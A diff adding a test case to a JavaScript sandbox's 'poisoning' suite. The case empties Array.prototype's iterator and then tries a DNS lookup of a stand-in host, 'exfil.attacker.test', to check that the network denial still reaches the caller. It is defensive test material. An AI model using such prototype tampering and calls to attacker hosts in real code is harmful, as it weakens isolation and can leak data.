@@ -180,6 +180,11 @@ function poisoning(): [string, string][] {
       `await null; const saved = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function* () {}; try { return await ${hit(D())}; } finally { Array.prototype[Symbol.iterator] = saved; }`,
     ],
     [
+      // The denial must still reach the caller: no argument of it may travel through a spread.
+      'array iterator, denied lookup',
+      `await null; const saved = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function* () {}; try { return await new Promise((r) => require('dns').lookup('exfil.attacker.test', (e) => r(e ? String(e.code) : 'resolved'))); } finally { Array.prototype[Symbol.iterator] = saved; }`,
+    ],
+    [
       'Array species',
       `const saved = Object.getOwnPropertyDescriptor(Array, Symbol.species); Object.defineProperty(Array, Symbol.species, { get: () => function () { return []; }, configurable: true }); try { return await ${hit(D())}; } finally { Object.defineProperty(Array, Symbol.species, saved); }`,
     ],
